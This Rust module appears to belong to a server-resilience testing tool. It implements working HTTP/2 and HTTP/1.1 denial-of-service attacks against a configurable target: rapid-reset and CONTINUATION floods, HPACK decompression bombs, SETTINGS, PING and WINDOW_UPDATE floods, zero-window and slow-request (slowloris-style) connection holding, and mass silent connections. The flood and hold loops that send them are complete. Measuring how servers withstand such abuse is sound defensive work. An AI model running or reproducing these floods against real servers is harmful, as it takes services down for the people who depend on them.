//! The ways to be a nuisance.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::Target;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, field, frame, head, kept_field, setting,
};

/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2).
const INITIAL_WINDOW: u16 = 4;

/// Frames that a flood writes at once.
const BATCH: u32 = 16;

/// Pause between two looks at connections that are held, and two drops from them.
const TICK: Duration = Duration::from_millis(200);

/// A case.
pub(super) struct Case {
    pub(super) name: &'static str,
    pub(super) what: What,
}

/// What is done.
pub(super) enum What {
    /// For comparison.
    Nothing,
    /// One connection on which as much is sent as goes, opened again when it is cut.
    Flood {
        settings: fn() -> Vec<u8>,
        begin: fn(&Target) -> Vec<u8>,
        /// By its number, from 0.
        step: fn(&Target, u32) -> Vec<u8>,
    },
    /// Connections that are held for as long as they are let.
    Hold {
        connections: usize,
        begin: fn(&Target) -> Vec<u8>,
        /// Sent each fifth of a second.
        drop: fn() -> Vec<u8>,
        /// Whether what comes is read.
        reads: bool,
    },
}

/// What became of the abuser.
#[derive(Debug, Default)]
pub(super) struct Outcome {
    pub(super) opened: usize,
    pub(super) cut: usize,
    /// Held to the end.
    pub(super) left: usize,
    pub(super) first_cut: Option<Duration>,
}

/// A stream of the client's, by its number from 0.
fn stream(number: u32) -> u32 {
    2 * number + 1
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

fn no_begin(_: &Target) -> Vec<u8> {
    Vec::new()
}

fn get(to: &Target, number: u32, path: &str, more: &[u8]) -> Vec<u8> {
    let block = [head("GET", &to.host, path), more.to_vec()].concat();
    frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &block)
}

fn post(to: &Target, more: &[u8]) -> Vec<u8> {
    let block = [head("POST", &to.host, "/"), more.to_vec()].concat();
    frame(HEADERS, END_HEADERS, 1, &block)
}

fn reset(number: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream(number), &8u32.to_be_bytes())
}

const fn flood(name: &'static str, begin: fn(&Target) -> Vec<u8>, step: fn(&Target, u32) -> Vec<u8>) -> Case {
    Case {
        name,
        what: What::Flood {
            settings: nothing,
            begin,
            step,
        },
    }
}

const fn hold(
    name: &'static str,
    connections: usize,
    begin: fn(&Target) -> Vec<u8>,
    drop: fn() -> Vec<u8>,
    reads: bool,
) -> Case {
    Case {
        name,
        what: What::Hold {
            connections,
            begin,
            drop,
            reads,
        },
    }
}

/// A connection of HTTP/2 that begins with so large a window for each stream, and then frames.
fn http2(window: u32, frames: &[Vec<u8>]) -> Vec<u8> {
    let settings = frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW, window));
    [PREFACE, &settings, &frames.concat()].concat()
}

pub(super) const CASES: &[Case] = &[
    Case {
        name: "nothing",
        what: What::Nothing,
    },
    flood("rapid_reset", no_begin, |to, n| {
        [get(to, n, "/", &[]), reset(n)].concat()
    }),
    flood("rapid_reset_large", no_begin, |to, n| {
        [get(to, n, &to.large, &[]), reset(n)].concat()
    }),
    flood(
        "continuation",
        |to| frame(HEADERS, END_STREAM, 1, &head("GET", &to.host, "/")),
        |_, _| frame(CONTINUATION, 0, 1, &field(b"x", b"1")),
    ),
    flood(
        "continuation_large",
        |to| frame(HEADERS, END_STREAM, 1, &head("GET", &to.host, "/")),
        |_, _| frame(CONTINUATION, 0, 1, &field(b"x", &[b'y'; 200]).repeat(70)),
    ),
    flood(
        "hpack_bomb",
        |to| get(to, 0, "/", &kept_field(b"x", &[b'a'; 4000])),
        |to, n| get(to, n + 1, "/", &[0xbe; 8000]),
    ),
    flood(
        "hpack_bombs",
        |to| get(to, 0, "/", &kept_field(b"x", &[b'a'; 3000])),
        |to, n| get(to, n + 1, "/", &[0xbe; 15]),
    ),
    flood("settings", no_begin, |_, _| {
        frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW, 65_535))
    }),
    flood("ping", no_begin, |_, _| frame(PING, 0, 0, b"12345678")),
    flood("empty_data", |to| post(to, &[]), |_, _| frame(DATA, 0, 1, &[])),
    flood("tiny_data", |to| post(to, &[]), |_, _| frame(DATA, 0, 1, b"x")),
    flood(
        "padding",
        |to| post(to, &[]),
        |_, _| frame(DATA, PADDED, 1, &[&[255][..], &[0; 255]].concat()),
    ),
    flood("window_update", no_begin, |_, _| {
        frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())
    }),
    flood("priority", no_begin, |_, n| {
        frame(PRIORITY, 0, stream(n), &[0, 0, 0, 0, 1])
    }),
    flood("many_streams", no_begin, |to, n| get(to, n, "/", &[])),
    flood("made_you_reset", no_begin, |to, n| {
        get(to, n, "/", &field(b"connection", b"close"))
    }),
    hold(
        "zero_window",
        4,
        |to| {
            let gets: Vec<_> = (0..20).map(|n| get(to, n, &to.large, &[])).collect();
            http2(0, &gets)
        },
        nothing,
        true,
    ),
    hold(
        "dripping_window",
        20,
        |to| http2(0, &[get(to, 0, &to.large, &[])]),
        || frame(WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes()),
        true,
    ),
    hold(
        "slow_body_h2",
        50,
        |to| http2(65_535, &[post(to, &field(b"content-length", b"100000"))]),
        || frame(DATA, 0, 1, b"x"),
        true,
    ),
    hold(
        "slow_head_h2",
        50,
        |to| {
            http2(
                65_535,
                &[frame(HEADERS, END_STREAM, 1, &head("GET", &to.host, "/"))],
            )
        },
        nothing,
        true,
    ),
    hold(
        "unread_h2",
        4,
        |to| {
            let gets: Vec<_> = (0..20).map(|n| get(to, n, &to.large, &[])).collect();
            http2(0x7fff_ffff, &gets)
        },
        nothing,
        false,
    ),
    hold(
        "slow_head_h1",
        500,
        |to| format!("GET / HTTP/1.1\r\nhost: {}\r\nx:", to.host).into_bytes(),
        || b"y".to_vec(),
        true,
    ),
    hold(
        "slow_body_h1",
        200,
        |to| {
            format!(
                "POST / HTTP/1.1\r\nhost: {}\r\ncontent-length: 100000\r\n\r\n",
                to.host
            )
            .into_bytes()
        },
        || b"y".to_vec(),
        true,
    ),
    hold("silent", 2000, no_begin, nothing, true),
];

impl Case {
    /// Goes on until `end`.
    pub(super) fn run(&self, target: &Target, end: Instant) -> Outcome {
        match &self.what {
            What::Nothing => Outcome::default(),
            What::Flood {
                settings,
                begin,
                step,
            } => floods(target, end, &settings(), &begin(target), *step),
            What::Hold {
                connections,
                begin,
                drop,
                reads,
            } => holds(target, end, *connections, (&begin(target), &drop()), *reads),
        }
    }
}

fn floods(
    target: &Target,
    end: Instant,
    settings: &[u8],
    begin: &[u8],
    step: fn(&Target, u32) -> Vec<u8>,
) -> Outcome {
    let mut outcome = Outcome::default();
    let begin = [PREFACE, &frame(SETTINGS, 0, 0, settings), begin].concat();
    while Instant::now() < end {
        let opened = Instant::now();
        let Ok(mut stream) = open(target, &begin) else {
            continue;
        };
        outcome.opened += 1;
        let mut number = 0;
        loop {
            if Instant::now() >= end {
                outcome.left += 1;
                break;
            }
            let batch: Vec<_> = (number..number + BATCH).map(|n| step(target, n)).collect();
            number += BATCH;
            let sent = stream.write_all(&batch.concat());
            if sent.is_err() || is_closed(&mut stream) {
                outcome.was_cut(opened);
                break;
            }
        }
    }
    outcome
}

fn holds(
    target: &Target,
    end: Instant,
    connections: usize,
    (begin, drop): (&[u8], &[u8]),
    reads: bool,
) -> Outcome {
    let mut outcome = Outcome::default();
    let started = Instant::now();
    let mut held: Vec<_> = (0..connections)
        .filter_map(|_| open(target, begin).ok())
        .collect();
    outcome.opened = held.len();
    while Instant::now() < end && !held.is_empty() {
        held.retain_mut(|stream| {
            let sent = stream.write_all(drop);
            let goes_on = sent.is_ok() && !(reads && is_closed(stream)) && (reads || !is_reset(stream));
            if !goes_on {
                outcome.was_cut(started);
            }
            goes_on
        });
        std::thread::sleep(TICK);
    }
    outcome.left = held.len();
    outcome
}

impl Outcome {
    fn was_cut(&mut self, since: Instant) {
        self.cut += 1;
        self.first_cut.get_or_insert(since.elapsed());
    }
}

fn open(target: &Target, begin: &[u8]) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(target.address)?;
    stream.set_nodelay(true)?;
    stream.set_write_timeout(Some(Duration::from_secs(5)))?;
    stream.write_all(begin)?;
    Ok(stream)
}

/// Reads what is there, and tells whether it ends.
fn is_closed(stream: &mut TcpStream) -> bool {
    let mut buffer = [0; 65_536];
    let closed = stream.set_nonblocking(true).is_err()
        || loop {
            match stream.read(&mut buffer) {
                Ok(0) => break true,
                Ok(_) => {}
                Err(error) => break error.kind() != io::ErrorKind::WouldBlock,
            }
        };
    closed || stream.set_nonblocking(false).is_err()
}

/// Whether the other side has reset the connection, without reading what it sent.
fn is_reset(stream: &TcpStream) -> bool {
    stream.take_error().is_ok_and(|error| error.is_some())
}
